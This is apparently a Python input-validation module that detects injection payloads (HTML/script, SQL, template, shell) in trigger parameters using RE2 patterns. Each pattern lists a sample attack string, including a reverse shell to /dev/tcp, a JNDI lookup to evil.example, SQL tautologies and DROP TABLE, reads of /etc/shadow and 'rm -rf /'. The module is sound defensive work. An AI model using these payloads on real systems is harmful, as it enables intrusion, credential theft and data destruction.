r"""Refuse parameters that carry injection payloads (design §7.2, "potentially malicious
content"): script and HTML injection, SQL meta-sequences, template and shell injection.

Each pattern is what an attack needs and ordinary text does not have: a tag or an event
handler rather than the word "script", a quote that closes a string and goes on as SQL rather
than a semicolon, a template expression that reaches for Python internals rather than braces.
Prose, commit messages, shipped and documented examples and quoted code (bar a `<script>`
tag or the like) pass. docs/security.md lists the patterns; a trigger whose tests need such
payloads sets `allow_suspicious_content: true` in its config.

The patterns run on RE2 (`contracts.regex`), so a value of any size is checked in time linear
in its length: no backreferences or lookaround, and Unicode spaces are read as spaces first
(RE2's `\s` is ASCII).
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import partial
from typing import Any

from contracts.documents import Links, path_of, walk
from contracts.kinds import KINDS
from contracts.models import MAX_ERROR_PATH, FieldError, TriggerType
from contracts.regex import Regex, RegexSet, linear, unicode_spaces_as_space
from contracts.validation import BoundedErrors, pointer

ALLOW_FLAG = "allow_suspicious_content"
CODE = "suspicious_content"


@dataclass(frozen=True)
class Pattern:
    name: str
    category: str  # html, sql, template, shell
    regex: Regex
    example: str  # one payload it stops (docs and tests)
    # The match counts only when its two groups are equal, ignoring case (`' OR 'a'='a`): what
    # a backreference would say, which RE2 does not have.
    equal_groups: bool = False

    def found_in(self, text: str) -> bool:
        if not self.equal_groups:
            return self.regex.search(text) is not None
        return any(m.group(1).lower() == m.group(2).lower() for m in self.regex.finditer(text))


def _p(name: str, category: str, regex: str, example: str, equal_groups: bool = False) -> Pattern:
    return Pattern(name, category, linear(regex, ignore_case=True), example, equal_groups)


_EVENT_HANDLERS = (
    r"on(?:error|load|click|dblclick|mouse\w{2,8}|pointer\w{2,8}|focus\w{0,3}|blur|input"
    r"|change|submit|key(?:down|up|press)|animation\w{3,9}|transition\w{3,6}|toggle|begin"
    r"|wheel|scroll|drag\w{0,5}|copy|cut|paste|unload|beforeunload|hashchange|message)"
)
_SQL_STATEMENT = (
    r"(?:drop\s+(?:table|database)\s+(?:if\s+exists\s+)?[\w.\"`\[\]]{1,128}\s*(?:;|--|$)"
    r"|delete\s+from\s+[\w.\"`\[\]]{1,128}\s*(?:;|--|$|where\b)"
    r"|insert\s+into\s+[\w.\"`\[\]]{1,128}\s*(?:\(|values\b|select\b)"
    r"|update\s+[\w.\"`\[\]]{1,128}\s+set\s+\w{1,64}\s*="
    r"|truncate\s+table\b|alter\s+table\b|create\s+(?:table|user|function)\b"
    r"|exec(?:ute)?\s+(?:xp|sp)_\w|shutdown\s*(?:;|--|$))"
)

_SHELL_COMMANDS = r"cat|ls|rm|curl|wget|nc|ncat|bash|sh|ping|sleep|chmod|python3?|perl"

PATTERNS: tuple[Pattern, ...] = (
    # Script and HTML injection: markup that runs code in a browser.
    _p("script_tag", "html", r"<script\b", "<script>alert(1)</script>"),
    _p(
        "event_handler_attribute",
        "html",
        r"<[a-z][a-z0-9-]{0,20}[\s/][^<>]{0,500}?\b" + _EVENT_HANDLERS + r"\s*=",
        '<img src=x onerror="alert(1)">',
    ),
    _p(
        "script_url",
        "html",
        r"(?:^|[\s\"'=(])(?:javascript|vbscript)\s*:(?:\S|$)",
        "javascript:alert(document.cookie)",
    ),
    _p(
        "embedded_frame",
        "html",
        r"<(?:iframe|frame|frameset|object|embed|applet)\b",
        '<iframe src="https://evil.example/">',
    ),
    _p("html_data_url", "html", r"\bdata:text/html\b", "data:text/html;base64,PHNjcmlwdD4="),
    # SQL meta-sequences: a quote that ends a string literal and goes on as SQL.
    _p(
        "sql_tautology",
        "sql",
        r"'\s*\)?\s*(?:or|and)\s+\(?\s*'?(\w{1,50})'?\s*=\s*'?(\w{1,50})\b",
        "' OR '1'='1",
        equal_groups=True,
    ),
    _p(
        "sql_stacked_statement",
        "sql",
        r"'\s*\)?\s*;\s*" + _SQL_STATEMENT,
        "'; DROP TABLE users; --",
    ),
    _p(
        "sql_union_select",
        "sql",
        r"'\s*\)?\s*union\s+(?:all\s+)?select\b|\bunion\s+(?:all\s+)?select\s+null\b",
        "' UNION SELECT username, password FROM users --",
    ),
    # The comment must end the value (it cuts off the rest of the query): prose writes a dash
    # after a quotation as `'no'--and`, with words after it.
    _p("sql_comment_after_quote", "sql", r"'\)?\s?--\s*$", "admin'--"),
    _p("sql_time_delay", "sql", r"\bpg_sleep\s*\(|\bwaitfor\s+delay\s+'", "1; SELECT pg_sleep(10)"),
    # Template injection: expressions that evaluate on the server.
    _p(
        "template_internals",
        "template",
        r"\{\{[^{}]{0,500}?(?:__\w{1,30}__|\b(?:lipsum|cycler|joiner)\b|\bconfig\.items\b)",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    ),
    _p(
        "template_arithmetic_probe",
        "template",
        r"(?:\{\{|\$\{|#\{|<%=)\s*\d{1,10}\s*[*+]\s*\d{1,10}\s*(?:\}\}|\}|%>)",
        "{{7*7}}",
    ),
    _p("jndi_lookup", "template", r"\$\{\s*(?:jndi\s*:|\$\{|::-)", "${jndi:ldap://evil.example/a}"),
    _p(
        "expression_language_runtime",
        "template",
        r"[$#]\{[^{}]{0,500}?(?:T\s*\(\s*java\.|getRuntime\s*\(|forName\s*\()",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
    ),
    _p(
        "erb_command",
        "template",
        r"<%=?[^%]{0,500}?(?:\b(?:system|exec|spawn|IO\.popen)\b|`)",
        "<%= system('id') %>",
    ),
    # Shell injection: a value that starts a new command, or a command only attacks run.
    # A value that starts with a separator and then a command with a path, flag, URL or
    # number after it (an INI file's `; settings.ini` comment is not one).
    _p(
        "shell_leading_separator",
        "shell",
        r"^\s*(?:;|&&|\|\|)\s*(?:(?:" + _SHELL_COMMANDS + r")\s+(?:-|\.{0,2}/|https?:|\d|\$)"
        r"|(?:id|whoami|uname(?:\s+-a)?)\s*(?:[;&|#]|$))",
        "; cat /etc/passwd",
    ),
    # `id` after a separator is prose ("sort by name; id"), and `X=$(whoami)` is a script's
    # own assignment: only a substitution elsewhere, or `whoami`/`uname -a`, counts.
    _p(
        "shell_command_probe",
        "shell",
        # `$(` not after `=` nor after `="`
        r"(?:^\"?|[^=\"]|[^=]\")\$\(\s*(?:id|whoami|uname\s+-a)\s*\)"
        r"|(?:;|&&|\|\|?)\s*(?:whoami|uname\s+-a)\b",
        "$(whoami)",
    ),
    _p(
        "reverse_shell",
        "shell",
        r"/dev/(?:tcp|udp)/|\bnc(?:at)?\s[^\n]{0,200}?\s-e\s",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    ),
    _p(
        "sensitive_file_read",
        "shell",
        r"(?:[;&|`]|\$\()\s*(?:cat|head|tail|less|more)\s+/etc/(?:passwd|shadow)\b",
        "$(cat /etc/shadow)",
    ),
    _p("remove_root", "shell", r"\brm\s+-(?:rf|fr|r\s+-f|f\s+-r)\s+/(?:\*|\s|$)", "rm -rf /"),
)


def suspicious_content(
    trigger_type: TriggerType, config: dict[str, Any], parameters: dict[str, Any]
) -> list[FieldError]:
    """One error per string value of `parameters` that matches a pattern, at its JSON pointer
    (under `/parameters`); none when the trigger allows such content."""
    allowed = config.get(ALLOW_FLAG, False)
    if not isinstance(allowed, bool):
        return [
            FieldError(
                path=f"/trigger_config/{ALLOW_FLAG}",
                message=f"{ALLOW_FLAG} must be true or false",
                code="type",
            )
        ]
    if allowed:
        return []
    # Fields that are HTML by nature: the HTML patterns do not apply there (the others do).
    html_fields = KINDS[trigger_type].html_parameters
    errors = BoundedErrors()
    for links, depth, text in walk(parameters):
        if not isinstance(text, str):
            continue
        skip_html = depth > 0 and _top(links) in html_fields
        found = first_match(text, skip_html=skip_html)
        if found is not None:
            errors.add(partial(_suspicious, links, found))
    return errors.result()


def _top(links: Links) -> str | int:
    """The top-level parameter the links lead from."""
    while links[0]:
        links = links[0]
    key: str | int = links[1]
    return key


def _suspicious(links: Links, found: Pattern) -> FieldError:
    return FieldError(
        path="/parameters" + pointer(path_of(links), limit=MAX_ERROR_PATH),
        message=(
            f"Potentially malicious content ({found.category}: {found.name}); "
            f"a trigger may allow it with `{ALLOW_FLAG}: true` in its config"
        ),
        code=CODE,
    )


# Every pattern in one pass over the text; the few that occur are then looked at one by one.
_ALL = RegexSet([pattern.regex.pattern for pattern in PATTERNS], ignore_case=True)


def first_match(text: str, *, skip_html: bool = False) -> Pattern | None:
    text = unicode_spaces_as_space(text)
    for index in _ALL.matching(text):
        pattern = PATTERNS[index]
        if skip_html and pattern.category == "html":
            continue
        if not pattern.equal_groups or pattern.found_in(text):
            return pattern
    return None
